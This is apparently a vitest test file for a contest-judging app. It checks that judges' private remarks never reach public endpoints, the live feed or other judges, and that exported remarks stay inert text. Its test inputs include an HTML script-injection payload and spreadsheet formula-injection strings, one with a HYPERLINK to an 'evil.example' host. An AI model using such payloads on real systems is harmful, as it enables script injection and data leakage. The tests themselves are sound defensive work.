import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FULL, commentsContest, download, pdfText, putWithComments } from '../support/comments';
import { LiveClient } from '../support/live-client';
import { client, judgeToken, organizerToken, startTestApp, type TestApp } from '../support/test-app';

/**
 * Judges' remarks are for the chief judge and the organizer: no public surface (standings, teams,
 * the live feed in every form) and no other panel judge ever receives one, before or after the
 * event is final; and where they are exported, markup and formulas stay inert text.
 */
let t: TestApp;
let api: ReturnType<typeof client>;
let org: string;
const tok: Record<string, string> = {};
const CODE = 'SECREM';
const base = `/api/contests/${CODE}/events/hair`;
const watchers: LiveClient[] = [];
/** a tag per judge in their remarks, to tell whose remark a reader got without naming the judge */
const TAG: Record<string, string> = { J1: 'tagA', J2: 'tagB', J3: 'tagC', J4: 'tagD', J5: 'tagE' };

/** Each remark holds this, so a leak anywhere is found by a plain substring search. */
const MARK = 'LEAK-7f3a9c';
const HTML = `<script>alert("${MARK}")</script><img src=x onerror=alert(1)>`;
const FORMULA = `=HYPERLINK("http://evil.example/?${MARK}","点我")`;
const AT = `@SUM(1+1)${MARK}`;

async function watch(request: Record<string, unknown>): Promise<LiveClient> {
  const live = new LiveClient(t.base);
  watchers.push(live);
  await live.connect();
  live.socket.emit('watch', { contest: CODE, ...request });
  await live.snapshot();
  return live;
}

/** Everything the public can read over HTTP. */
async function publicReads(): Promise<string> {
  const parts = [
    await api('GET', `/api/contests/${CODE}`),
    await api('GET', `${base}/standings`),
    await api('GET', `/api/contests/${CODE}/teams`),
  ].map((r) => {
    expect(r.status).toBe(200);
    return JSON.stringify(r.body);
  });
  // the feed's snapshot over HTTP, where this server offers it
  const snap = await api('GET', `/api/contests/${CODE}/snapshot`);
  if (snap.status === 200) parts.push(JSON.stringify(snap.body));
  return parts.join('\n');
}

beforeAll(async () => {
  t = await startTestApp();
  api = client(t.base);
  org = await organizerToken(t.base);
  expect((await api('POST', '/api/contests', commentsContest(CODE, 3), org)).status).toBe(201);
  for (let i = 1; i <= 7; i++) tok[`J${i}`] = await judgeToken(t.base, CODE, String(100000 + i));
});
afterAll(async () => {
  for (const w of watchers) w.disconnect();
  await t.close();
});

describe('remarks never reach a public surface or another panel judge', () => {
  let whole: LiveClient;
  let compact: LiveClient;
  let filtered: LiveClient;

  it('while marking goes on and after the event is final', async () => {
    whole = await watch({});
    compact = await watch({ compact: true });
    filtered = await watch({ compact: true, events: ['hair'] });

    for (const station of ['07', '08', '09']) {
      for (const j of ['J1', 'J2', 'J3', 'J4']) {
        const r = await putWithComments(api, tok[j], CODE, station, FULL, { design: `${TAG[j]} ${HTML}`, technique: FORMULA, finish: AT });
        expect(r.status, JSON.stringify(r.body)).toBe(200);
      }
      const r = await putWithComments(api, tok.J5, CODE, station, { finish: 27 }, { finish: `${TAG.J5} ${FORMULA}` });
      expect(r.status).toBe(200);
    }
    await t.settle();
    expect(await publicReads()).not.toContain(MARK);

    // the chief's acts send more updates; then the event is final and stations become public
    expect((await api('POST', `${base}/deductions`, { station: '08', points: 1, reason: '超时' }, tok.J6)).status).toBe(201);
    expect((await api('POST', `${base}/finalize`, undefined, tok.J6)).status).toBe(200);
    await t.settle();
    await whole.update((u) => u.final === true);
    await compact.update((u) => u.final === true);
    expect(await publicReads()).not.toContain(MARK);

    // late watchers get a snapshot of the final event
    const late = await watch({});
    const lateCompact = await watch({ compact: true, events: ['hair'] });
    for (const w of [whole, compact, filtered, late, lateCompact]) {
      expect(w.messages('update').length + w.messages('snapshot').length).toBeGreaterThan(0);
      expect(JSON.stringify(w.log)).not.toContain(MARK);
    }
    expect(compact.messages('update').length).toBeGreaterThan(0);
  });

  it("another panel judge's list and scheme hold only their own remarks", async () => {
    const list = await api('GET', `${base}/sheets`, undefined, tok.J2);
    expect(list.status).toBe(200);
    const text = JSON.stringify(list.body);
    expect(text).toContain('tagB <script>');
    for (const other of ['J1', 'J3', 'J4', 'J5']) expect(text).not.toContain(TAG[other]);
    const scheme = await api('GET', `${base}/scheme`, undefined, tok.J2);
    expect(JSON.stringify(scheme.body)).not.toContain(MARK);
    // J5 marks finish only and sees no one else's remark on anything
    const j5 = JSON.stringify((await api('GET', `${base}/sheets`, undefined, tok.J5)).body);
    expect(j5).not.toContain('<script>');
    // a judge on no panel of the event reads nothing at all
    expect((await api('GET', `${base}/sheets`, undefined, tok.J7)).status).toBe(403);
    expect((await api('GET', `${base}/progress`, undefined, tok.J7)).status).toBe(403);
  });

  it('the results exports (CSV, print page, results PDF) carry no remarks', async () => {
    const csv = await download(t.base, `${base}/results.csv`, org);
    expect(csv.status).toBe(200);
    expect(csv.text).not.toContain(MARK);
    const html = await download(t.base, `${base}/results.html`, org);
    expect(html.status).toBe(200);
    expect(html.text).not.toContain(MARK);
    const pdf = await download(t.base, `${base}/results.pdf`, org);
    expect(pdfText(t.dir, 'results.pdf', pdf.body).text).not.toContain(MARK);
  });
});

describe('exported remarks stay inert', () => {
  it('the workbook lists them as text: formulas prefixed with an apostrophe, markup as typed, no formula cell anywhere', async () => {
    const res = await download(t.base, `/api/contests/${CODE}/export.xlsx`, org);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('裁判评语');
    expect(ws, 'remarks sheet').toBeDefined();
    const texts: string[] = [];
    ws!.eachRow((row) => row.eachCell((c) => texts.push(String(c.value))));
    expect(texts).toContain(`'${FORMULA}`);
    expect(texts).toContain(`'${AT}`);
    expect(texts).toContain(`tagE ${FORMULA}`);
    expect(texts).toContain(`tagA ${HTML}`);
    expect(texts.some((s) => s.startsWith('=') || s.startsWith('@'))).toBe(false);
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((c) => {
          expect(c.type, `${sheet.name}!${c.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(typeof c.value === 'object' && c.value !== null && 'formula' in c.value, `${sheet.name}!${c.address}`).toBe(false);
        }),
      ),
    );
  });

  it('the feedback PDF prints them as plain text', async () => {
    const pdf = await download(t.base, `${base}/feedback.pdf`, org);
    expect(pdf.status).toBe(200);
    const { text, pages } = pdfText(t.dir, 'feedback.pdf', pdf.body);
    expect(pages).toBe(3);
    expect(text).toContain('<script>alert');
    expect(text).toContain('=HYPERLINK');
    // judges are numbered, never named or keyed
    for (const name of ['刘敏', '陈刚', '周慧', '吴强', '郑洁']) expect(text).not.toContain(name);
    expect(text).not.toMatch(/\bJ[1-7] /);
  });
});
